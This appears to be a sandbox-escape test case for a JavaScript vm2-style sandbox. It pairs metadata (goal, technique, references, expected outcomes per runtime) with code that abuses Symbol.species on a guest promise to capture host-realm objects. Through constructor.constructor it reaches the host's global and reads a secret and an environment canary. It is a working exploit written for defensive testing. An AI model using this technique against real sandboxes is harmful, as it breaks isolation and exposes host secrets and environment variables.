/*---
id: proto-species-capture
title: A Symbol.species constructor captures what the awaiting code's then() handler returns
category: prototype
goal: Make the code that settles the guest's promise build its derived promise with a guest constructor, capture the value the outside handler returns (an object of the outside realm), climb to that realm and leak the global and env canaries.
technique: promise.then(onFulfilled) looks up promise.constructor[Symbol.species] and calls new Species(executor); the guest's species calls executor with its own resolve, so the reaction job hands it whatever onFulfilled returned — an object of the awaiting realm, whose constructor.constructor is that realm's Function. The executor V8 passes is climbed too (it is the then()'s realm).
references: https://tc39.es/ecma262/#sec-speciesconstructor, https://tc39.es/ecma262/#sec-newpromisereactionjob, https://github.com/patriksimek/vm2/issues/562, https://github.com/n8n-io/vm2/pull/2
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped
---*/
// The completion value is a genuine promise of the guest's realm whose own `constructor` names a species
// constructor. Whoever settles it with .then(handler) runs the guest's species, and the reaction job passes
// the handler's return value to the resolve the guest supplied. No constructor.constructor on the guest's
// own objects: every realm reached below is one the species machinery handed over.
const seen = [];
function climb(label, value) {
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null) {
    seen.push({ via: label, value: typeof value });
    return;
  }
  try {
    const F = value.constructor && value.constructor.constructor;
    const g = F('return globalThis')();
    seen.push({
      via: label,
      foreignRealm: F !== Function,
      hostSecret: g.__hostSecret,
      env: g.process && g.process.env ? g.process.env.WORKBENCH_CANARY : undefined,
    });
  } catch (e) {
    seen.push({ via: label, error: String(e).slice(0, 100) });
  }
}
function Species(executor) {
  climb('executor', executor);
  executor(
    (v) => {
      climb('handler result', v);
      console.log('species captured:', JSON.stringify(seen));
    },
    () => {},
  );
}
const p = Promise.resolve('settled by the outside');
Object.defineProperty(p, 'constructor', { value: { [Symbol.species]: Species } });
p;
